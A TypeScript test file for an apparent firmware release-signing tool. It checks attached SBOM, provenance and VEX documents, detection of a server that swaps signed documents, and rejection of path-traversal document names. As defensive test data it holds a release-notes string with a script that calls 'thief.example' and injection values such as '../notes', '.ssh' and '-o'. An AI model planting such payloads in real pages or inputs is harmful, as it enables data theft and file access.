// A27, A36: documents about a release, from the command line that attaches them to whoever reads them from a server that lies.
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { join } from 'node:path';
import { FirmproofClient } from '@firmproof/client';
import {
  type ProductId,
  parseStatement,
  parseVersion,
  type ReleaseDocument,
  sha256,
  type Version,
} from '@firmproof/protocol';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { reviewOf } from '../../client/src/proposal-review.ts';
import { fetchDocument, releaseDetails } from '../../client/src/release-details.ts';
import { firmproof, type Outcome, runCommand } from '../support/command.ts';
import { statementOf } from '../support/documents.ts';
import { expectCode } from '../support/expect-code.ts';
import { LyingServer } from '../support/lying-server.ts';
import { destroyStack, eventually, type Stack, startStack, temporaryDirectory } from '../support/stack.ts';
import { cycloneDx, inEnvelope, openVex, provenance, spdx2 } from '../support/supply-chain.ts';

let stack: Stack;
let liar: LyingServer;
let directory: string;
let lamp: { product: ProductId; version: Version };
const image = randomBytes(300_000);
const hostileNotes = '<!doctype html><script>fetch("https://thief.example/")</script>\n# 1.0.0\n';

beforeAll(async () => {
  stack = await startStack();
  liar = await LyingServer.start(stack.url);
  directory = temporaryDirectory();
  file('image.bin', image);
  expect((await run('setup', '--solo', '--product', 'lamp')).code).toBe(0);
});
afterAll(async () => {
  rmSync(directory, { recursive: true, force: true });
  await liar.stop();
  await destroyStack(stack);
});

function file(name: string, content: Buffer | string | object): string {
  const path = join(directory, name);
  writeFileSync(path, typeof content === 'string' || Buffer.isBuffer(content) ? content : JSON.stringify(content));
  return path;
}

const run = (...args: string[]): Promise<Outcome> => runFrom(stack.url, ...args);
const runFrom = (server: string, ...args: string[]) =>
  runCommand(firmproof, args, {
    FIRMPROOF_HOME: join(directory, 'home'),
    FIRMPROOF_PASSPHRASE: 'correct horse',
    FIRMPROOF_SERVER: server,
  });
async function json(...args: string[]) {
  const { code, stdout, stderr } = await run(...args, '--json');
  expect(code, stderr).toBe(0);
  return JSON.parse(stdout);
}
async function fails(code: string, exitCode: number, outcome: Promise<Outcome>): Promise<string> {
  const { stderr, code: exit } = await outcome;
  const said = JSON.parse(stderr);
  expect([said.code, exit]).toEqual([code, exitCode]);
  return said.message;
}

const parts = [
  { name: 'openssl', version: '3.5.0', license: 'Apache-2.0' },
  { name: 'zlib', version: '1.3.1', license: 'Zlib' },
];
const attachments = () => [
  ...['--sbom', file('lamp.cdx.json', cycloneDx(parts)), '--sbom', file('lamp.spdx.json', spdx2(parts))],
  ...['--provenance', file('lamp.intoto.jsonl', inEnvelope(provenance(sha256(image))))],
  ...['--vex', file('lamp.vex.json', openVex('lamp')), '--notes-file', file('notes.md', hostileNotes)],
  ...['--severity', 'high', '--fixes', 'CVE-2026-12345, cve-2026-1111', '--support-until', '2031-12-31'],
  ...['--notes', 'Fixes two holes.', '--purpose', 'security'],
];
const publish = (version: string, ...more: string[]) => [
  'publish',
  join(directory, 'image.bin'),
  '--version',
  version,
  ...more,
];

describe('what publish attaches', () => {
  test('is shown by a dry run, which sends nothing', async () => {
    const { product, documents, severity, fixedVulnerabilities, supportUntil, sbom } = (
      await json(...publish('1.0.0', ...attachments(), '--dry-run'))
    ).statement.predicate;
    expect(documents.map(({ kind, format }: ReleaseDocument) => `${kind} ${format}`)).toEqual([
      'sbom cyclonedx',
      'sbom spdx',
      'provenance slsa',
      'vex openvex',
      'notes markdown',
    ]);
    expect({ severity, fixedVulnerabilities, supportUntil }).toEqual({
      severity: 'high',
      fixedVulnerabilities: ['CVE-2026-12345', 'CVE-2026-1111'],
      supportUntil: '2031-12-31',
    });
    expect(sbom).toMatchObject({ digest: documents[0].digest, components: [{ name: 'openssl' }, { name: 'zlib' }] });
    await expectCode('document-missing', () =>
      new FirmproofClient({ server: stack.url }).document(product, documents[0]),
    );
  });

  test('is sent, recorded, shown, fetched and checked', async () => {
    const { product, version, state } = await json(...publish('1.0.0', ...attachments()));
    expect(state).toBe('confirmed');
    lamp = { product, version };
    const shown = await run('release', 'show', '1.0.0');
    expect(shown.stdout).toMatch(/severity +high/);
    expect(shown.stdout).toMatch(/fixes +CVE-2026-12345, CVE-2026-1111/);
    expect(shown.stdout).toMatch(/supported until +2031-12-31/);
    expect(shown.stdout).toMatch(/statement +signed by somebody whom the trust root names/);
    expect(shown.stdout).toMatch(/vex +openvex +lamp\.vex\.json/);
    expect(shown.stdout).toContain('Fixes two holes.');
    const output = join(directory, 'fetched.json');
    expect(await json('document', 'get', 'vex', '--version', '1.0.0', '-o', output)).toMatchObject({
      document: { kind: 'vex', digest: sha256(readFileSync(output)) },
      isSignatureChecked: true,
    });
    // Exactly one is meant, and a file that is there is not lost.
    await fails('usage-invalid', 2, run('document', 'get', 'sbom', '--json'));
    writeFileSync(output, 'mine');
    await fails('file-differs', 2, run('document', 'get', 'vex', '-o', output, '--json'));
  });

  test('is refused where it is about another image', async () => {
    const other = file('other.json', provenance('ab'.repeat(32)));
    await fails('provenance-subject', 2, run(...publish('1.0.1', '--provenance', other, '--json')));
  });
});

describe('A36 a server that has other documents than the ones that were signed', () => {
  const swapped = JSON.stringify(cycloneDx([{ name: 'backdoor', version: '1' }]));
  const swap = (bytes: string) => ({
    answer: (request: IncomingMessage, response: ServerResponse) => {
      if (!request.url?.includes('/documents/')) return false;
      response.writeHead(200, { 'content-type': 'application/octet-stream' }).end(bytes);
      return true;
    },
  });

  test('is found by the hash, and nothing is written', async () => {
    const client = new FirmproofClient({ server: liar.url });
    const { product, version } = lamp;
    const { statement } = await releaseDetails(client, product, version, null);
    const [sbom] = statement.predicate.documents ?? [];
    if (!sbom) throw new Error('the release has no documents');
    // The first one has the size that was signed: only the hash can tell.
    const alike = JSON.stringify(cycloneDx(parts))
      .replace('zlib', 'zlob')
      .padEnd(sbom.sizeBytes)
      .slice(0, sbom.sizeBytes);
    for (const bytes of [alike, '', `${JSON.stringify(cycloneDx(parts))}\n`, 'x'.repeat(5_000_000)])
      await liar.lying(swap(bytes), () =>
        expectCode('document-digest-mismatch', () => fetchDocument(client, product, sbom)),
      );
    const output = join(directory, 'swapped.json');
    const get = () => runFrom(liar.url, 'document', 'get', 'lamp.cdx.json', '-o', output, '--json');
    await fails('document-digest-mismatch', 5, liar.lying(swap(swapped), get));
    expect(existsSync(output)).toBe(false);
    expect(sha256(await fetchDocument(client, product, sbom))).toBe(sbom.digest);
  });

  test('is found by whoever approves', async () => {
    const { proposal } = await json(
      ...publish(
        '1.1.0',
        '--sbom',
        file('next.json', cycloneDx([...parts, { name: 'new', version: '1' }])),
        '--severity',
        'low',
      ),
    );
    const client = new FirmproofClient({ server: liar.url });
    // By then it is on chain: the proposal's documents are its publisher's, so the honest answer here is none.
    const review = async () =>
      (await reviewOf(client, stack.info, proposal, { registry: null, trustRoot: null })).review;
    const documents = async () => (await review()).checks.find(({ name }) => name === 'The documents');
    expect(await documents()).toBeUndefined();
    const { product } = lamp;
    await eventually(
      () => client.attestation(product, parseVersion('1.1.0')),
      (text) => text.length > 0,
      'the attestation',
    );
    const attestation = await client.attestation(product, parseVersion('1.1.0'));
    const withAttestation = (bytes: string) => ({
      answer: (request: IncomingMessage, response: ServerResponse) => {
        if (request.url?.endsWith(`${proposal}/attestation`)) response.writeHead(200).end(attestation);
        else return swap(bytes).answer(request, response);
        return true;
      },
    });
    await liar.lying(withAttestation(swapped), async () =>
      expect(await documents()).toMatchObject({ outcome: 'failed', text: expect.stringContaining('next.json') }),
    );
    const honest = readFileSync(join(directory, 'next.json'), 'utf8');
    await liar.lying(withAttestation(honest), async () => {
      expect(await documents()).toMatchObject({ outcome: 'passed' });
      expect((await review()).rows).toContainEqual({ label: 'Severity', value: 'low' });
    });
  });
});

describe('A27 names of documents', () => {
  const named = (name: string) => {
    const digest = sha256(Buffer.from('x'));
    const document = { kind: 'notes', format: 'text', mediaType: 'text/plain', name, digest, sizeBytes: 1 };
    const cid = 'bafkreibnslnxwmrqrkvgb4ylobnuwvmxzxmbhqxqv6cqvgurbivdcmycsa';
    return Buffer.from(JSON.stringify(statementOf({ documents: [{ ...document, cid }] })));
  };

  test.each(['../notes', 'a/b', 'a\\b', '.ssh', '-o', 'x\0y', 'x\ny', 'con:', '', 'x'.repeat(129), 'ä', 'x.'])(
    'that lead somewhere else are no names: %j',
    (name) => expectCode('statement-malformed', () => parseStatement(named(name))),
  );
});
